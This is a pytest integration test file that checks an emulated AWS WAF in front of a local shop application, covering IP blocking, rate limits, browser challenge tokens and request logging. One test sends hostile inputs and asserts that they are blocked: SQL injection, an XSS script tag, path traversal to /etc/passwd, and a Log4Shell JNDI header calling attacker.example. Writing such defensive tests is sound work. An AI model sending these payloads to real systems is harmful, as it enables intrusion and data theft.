"""A web ACL in front of a real application: made with real clients, attacked with curl, visited with a real browser."""

from __future__ import annotations

import json
import re
import shutil
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from selenium import webdriver
from selenium.webdriver.chrome.options import Options
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.support.wait import WebDriverWait

from garrison.edge.inspection.token_key import token_key
from garrison.waf import Request, TokenKeys
from garrison.waf.token import Token, client_of
from tests.clients.drivers import AwsCommand, Boto3, Driver, Refused
from tests.clients.server import Server
from tests.edge.application import Application
from tests.edge.clients import ACM, SUBNETS, Answer, client, curl, edge_ports, until
from tests.edge.load import Load
from tests.edge.protected import address, config
from tests.edge.waf import visibility

pytestmark = [pytest.mark.client, pytest.mark.xdist_group("waf")]

BLOCKED = ("127.0.0.5/32", "127.0.0.6/32", "203.0.113.7/32")
INJECTION = "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20"
LIMIT = 10
HOST = "shop.example.com"
"""Known bad inputs takes a Host of this machine itself for what it is: somebody's probe."""


@dataclass
class Protected:
    """A resource of this server behind a web ACL of its own."""

    server: Server
    driver: Driver
    name: str
    scope: str
    url: str = ""
    secure: str = ""
    resource: str = ""
    acl: dict[str, str] = field(default_factory=dict)
    """Summary."""

    def call(self, service: str, operation: str, **params: Any) -> dict[str, Any]:
        return self.driver.call(self.server.root, service, operation, **params)

    def waf(self, operation: str, **params: Any) -> dict[str, Any]:
        return self.call("wafv2", operation, **params)

    @property
    def id(self) -> dict[str, str]:
        return {"Name": self.name, "Scope": self.scope, "Id": self.acl["Id"]}

    def once(self) -> None:
        """For what no client of the API has a part in: two of the three resources are enough."""
        if isinstance(self.driver, AwsCommand):
            pytest.skip("shown on what boto3 made")

    def make_web_acl(self) -> None:
        """Default-allow: addresses, Core, Known bad inputs, SQLi with a response of its own, a rate, a challenge."""
        ip_set = {"Name": self.name, "Scope": self.scope, "IPAddressVersion": "IPV4", "Addresses": list(BLOCKED)}
        addresses = self.waf("CreateIPSet", **ip_set)["Summary"]["ARN"]
        self.acl = self.waf(
            "CreateWebACL",
            Name=self.name,
            Scope=self.scope,
            DefaultAction={"Allow": {}},
            VisibilityConfig=visibility(self.name),
            CustomResponseBodies={"sorry": {"ContentType": "APPLICATION_JSON", "Content": '{"sorry": true}'}},
            Rules=rules(self.name, addresses, forwarded=self.scope == "REGIONAL"),
        )["Summary"]

    def log(self) -> list[dict[str, Any]]:
        """The records of its web ACL in the file they are delivered to."""
        found = []
        for path in (self.server.data / "waf-logs" / f"aws-waf-logs-{self.name}").glob("*.jsonl"):
            found += [json.loads(line) for line in path.read_text().splitlines()]
        return found

    def logged(self, path: str) -> dict[str, Any]:
        """The record of the first request for a path, once it is there."""
        return until(lambda: next(record for record in self.log() if record["httpRequest"]["uri"] == path))


def at(pattern: str) -> dict[str, Any]:
    """Requests for paths that match."""
    what = {"FieldToMatch": {"UriPath": {}}, "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}
    return {"RegexMatchStatement": {"RegexString": pattern} | what}


def rules(name: str, addresses: str, *, forwarded: bool) -> list[dict[str, Any]]:
    """The rules of a web ACL, in order."""
    custom = {
        "ResponseCode": 409,
        "CustomResponseBodyKey": "sorry",
        "ResponseHeaders": [{"Name": "x-why", "Value": "sql"}],
    }
    override = {"Name": "SQLi_QUERYARGUMENTS", "ActionToUse": {"Block": {"CustomResponse": custom}}}
    insert = {"CustomRequestHandling": {"InsertHeaders": [{"Name": "inspected", "Value": "yes"}]}}
    rate = {"Limit": LIMIT, "EvaluationWindowSec": 60, "AggregateKeyType": "IP", "ScopeDownStatement": at("^/limited")}
    by_header = {"HeaderName": "X-Forwarded-For", "FallbackBehavior": "NO_MATCH", "Position": "FIRST"}
    reference = {"IPSetReferenceStatement": {"ARN": addresses}}
    told = {"IPSetReferenceStatement": {"ARN": addresses, "IPSetForwardedIPConfig": by_header}}
    made: list[dict[str, Any]] = [
        {"Name": "seen", "Statement": at("^/"), "Action": {"Count": insert}},
        {"Name": "quiet", "Statement": at("^/quiet"), "Action": {"Count": {}}, "RuleLabels": [{"Name": "quiet"}]},
        {"Name": "addresses", "Statement": reference, "Action": {"Block": {}}},
        *([{"Name": "forwarded", "Statement": told, "Action": {"Block": {}}}] if forwarded else []),
        managed("CommonRuleSet"),
        managed("KnownBadInputsRuleSet"),
        managed("SQLiRuleSet", RuleActionOverrides=[override]),
        {"Name": "rate", "Statement": {"RateBasedStatement": rate}, "Action": {"Block": {}}},
        {"Name": "members", "Statement": at("^/members"), "Action": {"Challenge": {}}},
    ]
    return [
        rule | {"Priority": n, "VisibilityConfig": visibility(f"{name}-{rule['Name']}")} for n, rule in enumerate(made)
    ]


def managed(name: str, **options: Any) -> dict[str, Any]:
    """A rule that refers to one of AWS's groups."""
    statement = {"VendorName": "AWS", "Name": f"AWSManagedRules{name}"} | options
    return {"Name": name, "Statement": {"ManagedRuleGroupStatement": statement}, "OverrideAction": {"None": {}}}


@pytest.fixture(scope="module")
def garrison(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    data = tmp_path_factory.mktemp("waf") / "data"
    with Server(data, "--edge", "envoy", "--edge-ports", edge_ports()) as running:
        yield running


@pytest.fixture(scope="module")
def application() -> Iterator[Application]:
    with Application("shop") as running:
        yield running


def load_balancer(made: Protected, application: Application) -> None:
    """A load balancer, its target group and listener, and the web ACL it is associated with."""
    made.resource = made.call("elbv2", "CreateLoadBalancer", Name=made.name, Subnets=SUBNETS)["LoadBalancers"][0][
        "LoadBalancerArn"
    ]
    group = made.call(
        "elbv2", "CreateTargetGroup",
        Name=made.name, Protocol="HTTP", Port=80, VpcId="vpc-12345678", TargetType="ip",
    )["TargetGroups"][0]["TargetGroupArn"]  # fmt: skip
    made.call("elbv2", "RegisterTargets", TargetGroupArn=group, Targets=[{"Id": "127.0.0.1", "Port": application.port}])
    forward = {"Type": "forward", "TargetGroupArn": group}
    listener = made.call(
        "elbv2", "CreateListener",
        LoadBalancerArn=made.resource, Protocol="HTTP", Port=80, DefaultActions=[forward],
    )["Listeners"][0]["ListenerArn"]  # fmt: skip
    tls = made.call(
        "elbv2", "CreateListener",
        LoadBalancerArn=made.resource, Protocol="HTTPS", Port=443, DefaultActions=[forward],
        Certificates=[{"CertificateArn": ACM}],
    )["Listeners"][0]["ListenerArn"]  # fmt: skip
    told = made.call("elbv2", "DescribeTags", ResourceArns=[listener, tls])["TagDescriptions"]
    made.url, made.secure = [
        next(tag["Value"] for tag in one["Tags"] if tag["Key"] == "aws:garrison:address") for one in told
    ]
    made.make_web_acl()
    made.waf("AssociateWebACL", WebACLArn=made.acl["ARN"], ResourceArn=made.resource)
    assert made.waf("GetWebACLForResource", ResourceArn=made.resource)["WebACL"]["Name"] == made.name


def distribution(made: Protected, application: Application) -> None:
    """A distribution that names its web ACL."""
    made.make_web_acl()
    cloudfront = client(made.server, "cloudfront")
    wanted = config(application.port, WebACLId=made.acl["ARN"])
    wanted["DefaultCacheBehavior"]["ForwardedValues"] = {"QueryString": True, "Cookies": {"Forward": "all"}}
    found = cloudfront.create_distribution(DistributionConfig=wanted)["Distribution"]
    made.resource, made.url = found["Id"], address(cloudfront, found["ARN"])
    made.secure = address(cloudfront, found["ARN"], "https")


@pytest.fixture(scope="module", params=["load balancer, boto3", "load balancer, aws", "distribution, boto3"])
def site(
    request: pytest.FixtureRequest, garrison: Server, application: Application, tmp_path_factory: pytest.TempPathFactory
) -> Protected:
    """Protected, with its requests logged."""
    kind, _, by = request.param.partition(", ")
    driver = AwsCommand(garrison.url, tmp_path_factory.mktemp("aws")) if by == "aws" else Boto3(garrison.url)
    scope = "CLOUDFRONT" if kind == "distribution" else "REGIONAL"
    made = Protected(garrison, driver, f"shop-{by}-{scope.lower()}", scope)
    (distribution if kind == "distribution" else load_balancer)(made, application)
    until(lambda: from_("127.0.0.5", made.url).status == 403, seconds=60)
    account = made.acl["ARN"].split(":")[4]
    label = {"LabelNameCondition": {"LabelName": f"awswaf:{account}:webacl:{made.name}:quiet"}}
    made.waf(
        "PutLoggingConfiguration",
        LoggingConfiguration={
            "ResourceArn": made.acl["ARN"],
            "LogDestinationConfigs": [f"arn:aws:logs:us-east-1:{account}:log-group:aws-waf-logs-{made.name}"],
            "RedactedFields": [{"SingleHeader": {"Name": "authorization"}}],
            "LoggingFilter": {
                "DefaultBehavior": "KEEP",
                "Filters": [{"Behavior": "DROP", "Requirement": "MEETS_ALL", "Conditions": [label]}],
            },
        },
    )
    until(lambda: ask(made.url + "/first") and any(r["httpRequest"]["uri"] == "/first" for r in made.log()))
    return made


def ask(url: str, *arguments: str, host: str = HOST) -> Answer:
    """Ask for the shop with curl."""
    return curl(url, "-H", f"Host: {host}", *arguments)


def from_(address: str, url: str, *arguments: str) -> Answer:
    """Ask from one of this machine's own addresses."""
    return ask(url, "--interface", address, *arguments)


def test_three_addresses_are_blocked_and_everybody_else_is_let_in(site: Protected) -> None:
    assert ask(site.url).status == 200
    assert [from_(f"127.0.0.{n}", site.url).status for n in (4, 5, 6, 7)] == [200, 403, 403, 200]
    told = [ask(site.url, "-H", f"X-Forwarded-For: 203.0.113.{n}, 127.0.0.5").status for n in (7, 8)]
    # A distribution is where the client's address comes from; what clients say of it is nothing to these rules.
    assert told == ([403, 200] if site.scope == "REGIONAL" else [200, 200])


def test_attacks_get_the_answer_the_rules_have_for_them_and_never_reach_the_application(
    site: Protected, application: Application
) -> None:
    before = len(application.seen)
    answer = ask(site.url + INJECTION)
    assert (answer.status, answer.body, answer.headers["x-why"]) == (409, '{"sorry": true}', "sql")
    assert ask(site.url + "/search?q=%3Cscript%3Ealert(1)%3C/script%3E").status == 403
    assert ask(site.url + "/page?file=../../../../etc/passwd").status == 403
    assert ask(site.url + "/", "-H", "X-Api: ${jndi:ldap://attacker.example/a}").status == 403
    assert len(application.seen) == before
    answer = ask(site.url + "/search?q=blue+shirts")
    assert (answer.status, answer.seen["x-amzn-waf-inspected"]) == (200, "yes")


@pytest.mark.parametrize("version", ["http1.1", "http2"])
def test_tls_is_judged_as_plain_http_is(site: Protected, version: str) -> None:
    site.once()
    by = (f"--{version}", "--cacert", str(site.server.data / "tls" / "ca.pem"))
    until(lambda: ask(site.secure, *by).status == 200)
    answer = ask(site.secure, *by)
    assert answer.status == 200, answer
    assert f"http{answer.headers['http']}" == version
    assert ask(site.secure + INJECTION, *by).status == 409
    assert ask(f"{site.secure}/{version}", *by, "--data", "q=%3Cscript%3Ealert(1)%3C/script%3E").status == 403
    assert [from_(f"127.0.0.{n}", site.secure, *by).status for n in (4, 5, 6)] == [200, 403, 403]
    record = site.logged(f"/{version}")
    assert record["httpRequest"]["httpVersion"] == {"http1.1": "HTTP/1.1", "http2": "HTTP/2.0"}[version]


def test_who_asks_too_often_is_held_back_and_shown(site: Protected) -> None:
    statuses = [from_("127.0.0.9", site.url + "/limited").status for _ in range(LIMIT + 3)]
    assert statuses == [200] * LIMIT + [403] * 3
    assert from_("127.0.0.10", site.url + "/limited").status == 200
    assert from_("127.0.0.9", site.url + "/elsewhere").status == 200

    def held() -> list[str]:
        asked = {"Scope": site.scope, "WebACLName": site.name, "WebACLId": site.acl["Id"], "RuleName": "rate"}
        found = site.waf("GetRateBasedStatementManagedKeys", **asked)
        addresses: list[str] = found["ManagedKeysIPV4"]["Addresses"]
        return addresses

    assert until(held) == ["127.0.0.9/32"]


def test_requests_are_sampled_counted_and_logged_as_aws_does(site: Protected) -> None:
    ask(site.url + "/logged" + INJECTION[7:], "-H", "Authorization: secret", "-H", "Cookie: a=b")
    ask(site.url + "/quiet")
    for blocked in ("127.0.0.5", "127.0.0.6"):
        from_(blocked, site.url)
    record = site.logged("/logged")
    assert record["formatVersion"] == 1
    assert abs(record["timestamp"] - time.time() * 1000) < 60_000
    assert record["webaclId"] == site.acl["ARN"]
    assert (record["action"], record["terminatingRuleId"]) == ("BLOCK", "SQLiRuleSet")
    assert record["terminatingRuleType"] == "MANAGED_RULE_GROUP"
    assert record["responseCodeSent"] == 409
    assert record["httpSourceName"] == ("CF" if site.scope == "CLOUDFRONT" else "ALB")
    assert record["nonTerminatingMatchingRules"][0]["ruleId"] == "seen"
    group = next(group for group in record["ruleGroupList"] if group["terminatingRule"])
    assert group["ruleGroupId"] == "AWS#AWSManagedRulesSQLiRuleSet"
    assert group["terminatingRule"]["ruleId"] == "SQLi_QUERYARGUMENTS"
    assert {"name": "awswaf:managed:aws:sql-database:SQLi_QueryArguments"} in record["labels"]
    asked = record["httpRequest"]
    assert (asked["clientIp"], asked["httpMethod"], asked["args"]) == ("127.0.0.1", "GET", INJECTION.partition("?")[2])
    headers = {header["name"].lower(): header["value"] for header in asked["headers"]}
    assert (headers["authorization"], headers["cookie"]) == ("REDACTED", "a=b")
    ask(site.url + "/after")
    site.logged("/after")
    assert not [one for one in site.log() if one["httpRequest"]["uri"] == "/quiet"]
    now = datetime.now(UTC)
    window = {"StartTime": (now - timedelta(hours=1)).isoformat(), "EndTime": (now + timedelta(minutes=1)).isoformat()}
    found = site.waf(
        "GetSampledRequests",
        WebAclArn=site.acl["ARN"], RuleMetricName=f"{site.name}-addresses", Scope=site.scope, TimeWindow=window,
        MaxItems=100,
    )  # fmt: skip
    assert {one["Action"] for one in found["SampledRequests"]} == {"BLOCK"}
    assert {one["Request"]["ClientIP"] for one in found["SampledRequests"]} == {"127.0.0.5", "127.0.0.6"}
    assert found["PopulationSize"] >= len(found["SampledRequests"]) >= 2
    text = site.server.admin("GET", "/_garrison/metrics", token=False)[1]
    labels = f'web_acl="{site.acl["ARN"]}",metric="{site.name}-SQLiRuleSet",action="BLOCK"'
    assert re.search(rf"^garrison_waf_requests_total{{{labels}}} [1-9]", text, re.MULTILINE)
    shown = site.server.command("waf", "logs", "--web-acl", site.name, "--action", "BLOCK", "--last", "500").stdout
    assert f"BLOCK  SQLiRuleSet (SQLi_QUERYARGUMENTS)  127.0.0.1  GET /logged{INJECTION[7:]}" in shown


def test_what_is_used_is_not_deleted_and_what_has_changed_is_not_overwritten(site: Protected) -> None:
    got = site.waf("GetWebACL", **site.id)
    document = {k: got["WebACL"][k] for k in ("DefaultAction", "VisibilityConfig", "Rules", "CustomResponseBodies")}
    site.waf("UpdateWebACL", **site.id, **document, LockToken=got["LockToken"])
    with pytest.raises(Refused, match="WAFOptimisticLockException"):
        site.waf("UpdateWebACL", **site.id, **document, LockToken=got["LockToken"])
    lock = site.waf("GetWebACL", **site.id)["LockToken"]
    with pytest.raises(Refused, match="WAFAssociatedItemException"):
        site.waf("DeleteWebACL", **site.id, LockToken=lock)
    sets = site.waf("ListIPSets", Scope=site.scope)["IPSets"]
    own = next(one for one in sets if one["Name"] == site.name)
    with pytest.raises(Refused, match="WAFAssociatedItemException"):
        site.waf("DeleteIPSet", Name=own["Name"], Scope=site.scope, Id=own["Id"], LockToken=own["LockToken"])


def test_the_distributions_web_acl_is_swapped_under_load(site: Protected, application: Application) -> None:
    if site.scope != "CLOUDFRONT":
        pytest.skip("load balancers are associated")
    other = Protected(site.server, site.driver, "shop-other", "CLOUDFRONT")
    other.make_web_acl()
    cloudfront = client(site.server, "cloudfront")
    with Load(site.url, 2, host=HOST) as fine, Load(site.url, 2, INJECTION, HOST) as evil:
        for number in range(6):
            arn = (other, site)[number % 2].acl["ARN"]
            cloudfront.associate_distribution_web_acl(Id=site.resource, WebACLArn=arn)
            time.sleep(0.3)
    assert list(fine.told()) == [200]
    assert list(evil.told()) == [409]


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[webdriver.Chrome]:
    binary, chromedriver = shutil.which("chromium"), shutil.which("chromedriver")
    if binary is None or chromedriver is None:
        pytest.skip("Chromium is not installed; Debian: apt-get install chromium chromium-driver")
    options = Options()
    options.binary_location = binary
    profile = tmp_path_factory.mktemp("chromium")
    for argument in (
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        f"--host-resolver-rules=MAP {HOST} 127.0.0.1",
        f"--user-data-dir={profile}",
    ):
        options.add_argument(argument)
    started = webdriver.Chrome(options, Service(chromedriver))
    yield started
    started.quit()


def test_a_browser_does_the_challenge_and_its_token_is_good_for_nobody_else(
    site: Protected, browser: webdriver.Chrome
) -> None:
    site.once()
    members = f"http://{HOST}:{urlsplit(site.url).port}/members"
    browser.delete_all_cookies()
    browser.get(members)
    waiting = WebDriverWait(browser, 60, ignored_exceptions=[Exception])
    waiting.until(lambda d: '"application": "shop"' in d.page_source)
    assert browser.current_url == members
    cookie = browser.get_cookie("aws-waf-token")
    assert cookie is not None
    assert cookie["httpOnly"]
    agent = browser.execute_script("return navigator.userAgent")
    told = ("-b", f"aws-waf-token={cookie['value']}")

    def why(path: str, *arguments: str, host: str = HOST) -> str:
        """Refused, and the log says why."""
        assert ask(site.url + path, *arguments, host=host).status == 202
        reason: str = site.logged(path)["challengeResponse"]["failureReason"]
        return reason

    assert ask(site.url + "/members", "-A", agent, *told).status == 200
    assert why("/members/agent", "-A", "curl/8", *told) == "TOKEN_INVALID"
    assert why("/members/address", "-A", agent, *told, "--interface", "127.0.0.8") == "TOKEN_INVALID"
    assert why("/members/host", "-A", agent, *told, host="other.example") == "TOKEN_DOMAIN_MISMATCH"
    assert why("/members/none", "-A", agent) == "TOKEN_MISSING"
    assert why("/members/expired", "-A", agent, "-b", f"aws-waf-token={expired(site, agent)}") == "TOKEN_EXPIRED"
    changed = cookie["value"][:-2] + ("AA" if cookie["value"][-2:] != "AA" else "BB")
    assert why("/members/changed", "-A", agent, "-b", f"aws-waf-token={changed}") == "TOKEN_INVALID"


def expired(site: Protected, agent: str) -> str:
    """A genuine token of this client, from longer ago than the immunity time."""
    asked = Request(method="GET", target=b"/", headers=((b"user-agent", agent.encode()),), source_ip="127.0.0.1")
    token = Token("0" * 16, client_of(asked), HOST, int(time.time()) - 301)
    return TokenKeys(token_key(site.server.data / "edge")).mint(token)


def test_who_runs_garrison_gives_a_token_to_clients_that_cannot_do_the_challenge(site: Protected) -> None:
    site.once()
    token = site.server.command("waf", "token", "--domain", HOST).stdout.strip()
    assert ask(site.url + "/members", "-A", "garrison-ci", "-b", f"aws-waf-token={token}").status == 200
    assert ask(site.url + "/members", "-b", f"aws-waf-token={token}").status == 202


def test_each_record_is_delivered_once_across_restarts(site: Protected) -> None:
    site.once()
    for number in range(5):
        ask(f"{site.url}/before/{number}")
    site.server.stop()
    site.server.start()
    until(lambda: ask(f"{site.url}/up").status == 200, seconds=60)
    for number in range(5):
        ask(f"{site.url}/after/{number}")
    site.logged("/after/4")
    seen = [record["httpRequest"]["uri"] for record in site.log()]
    expected = [f"/{when}/{number}" for when in ("before", "after") for number in range(5)]
    assert [uri for uri in seen if uri in expected] == expected


def test_data_directory_holds_nothing_of_it_for_others(garrison: Server) -> None:
    folder: Path = garrison.data / "waf-logs"
    assert {path.stat().st_mode & 0o077 for path in [folder, *folder.rglob("*")]} == {0}
